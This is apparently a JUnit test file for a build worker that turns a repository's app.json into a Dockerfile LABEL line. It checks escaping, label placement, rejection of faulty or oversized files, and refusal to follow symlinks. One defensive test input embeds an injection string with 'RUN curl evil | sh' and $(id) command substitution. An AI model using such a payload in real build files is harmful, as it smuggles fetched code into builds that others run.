package io.slipway.build.worker;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.slipway.build.procfile.AppJson;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.core.type.TypeReference;
import tools.jackson.databind.json.JsonMapper;

/**
 * A repository's app.json as a source build reads it (a faulty file fails the build, a link is not
 * followed, a static site ignores it) and the label it becomes: one line of printable ASCII that no
 * command can break out of, reading back as the same JSON.
 */
class AppJsonLabelTest {

  @TempDir Path source;
  private final List<String> log = new ArrayList<>();

  @Test
  void theLabelIsOneQuotedLineWhateverTheCommandsHold() throws Exception {
    String hostile = "echo '\nRUN curl evil | sh' ; $(id) `id` ${PORT} λ ✓ \"\\";
    AppJson appJson =
        AppJson.parse(
            JsonMapper.builder()
                .build()
                .writeValueAsBytes(
                    Map.of(
                        "scripts",
                        Map.of("postdeploy", hostile.replace("\n", " ")),
                        "env",
                        Map.of("DB", Map.of("required", true)))));
    String line = ProcfileLabel.line(appJson);
    assertThat(line).startsWith("LABEL io.slipway.app-json='").endsWith("'");
    String value = line.substring("LABEL io.slipway.app-json='".length(), line.length() - 1);
    assertThat(value).matches("[\\x20-\\x7e&&[^']]*");
    Map<String, Object> back =
        JsonMapper.builder().build().readValue(value, new TypeReference<Map<String, Object>>() {});
    assertThat(back)
        .containsEntry("postdeploy", hostile.replace("\n", " "))
        .containsEntry("requiredEnv", List.of("DB"));
  }

  @Test
  void bothLabelsFollowTheCmd() {
    assertThat(
            ProcfileLabel.addTo(
                "FROM x\nCMD [\"a\"]\nCOPY . /app\n", List.of("LABEL a='1'", "LABEL b='2'")))
        .isEqualTo("FROM x\nCMD [\"a\"]\nLABEL a='1'\nLABEL b='2'\nCOPY . /app\n");
    assertThat(ProcfileLabel.addTo("FROM x\n", List.of())).isEqualTo("FROM x\n");
  }

  @Test
  void aSourceBuildReadsItsAppJsonAndAFaultyOneFailsTheBuild() throws IOException {
    PythonStack python = new PythonStack(SourceStacksTest.CATALOG.python());
    Files.writeString(
        source.resolve("app.json"),
        "{\"scripts\":{\"predeploy\":\"./migrate\"},\"env\":{\"DB\":{\"required\":true}}}");
    assertThat(RepositoryAppJson.used(source, python, log::add))
        .hasValueSatisfying(a -> assertThat(a.predeploy()).isEqualTo("./migrate"));
    assertThat(log)
        .containsExactly("app.json: predeploy runs before each deploy takes traffic; requires DB");

    // a static site does not run commands: its app.json cannot fail it
    assertThat(
            RepositoryAppJson.used(
                source, new StaticSiteStack(SourceStacksTest.CATALOG.staticSite()), log::add))
        .isEmpty();

    Files.writeString(source.resolve("app.json"), "{\"formation\":{\"worker\":{\"quantity\":-1}}}");
    assertThatThrownBy(() -> RepositoryAppJson.used(source, python, log::add))
        .isInstanceOf(SourceStack.UnbuildableSourceException.class)
        .hasMessage("app.json: formation.worker.quantity must be a whole number from 0 to 100");

    byte[] huge = new byte[10 * 1024 * 1024];
    java.util.Arrays.fill(huge, (byte) '[');
    Files.write(source.resolve("app.json"), huge);
    assertThatThrownBy(() -> RepositoryAppJson.used(source, python, log::add))
        .isInstanceOf(SourceStack.UnbuildableSourceException.class)
        .hasMessageStartingWith("app.json is larger than");

    // a link (to a file outside the repository, say) is not followed
    Files.delete(source.resolve("app.json"));
    Path outside = Files.createTempFile("slwtest-appjson", ".json");
    try {
      Files.writeString(outside, "{\"scripts\":{\"predeploy\":\"x\"}}", StandardCharsets.UTF_8);
      Files.createSymbolicLink(source.resolve("app.json"), outside);
      assertThat(RepositoryAppJson.used(source, python, log::add)).isEmpty();
    } finally {
      Files.delete(outside);
    }
  }
}
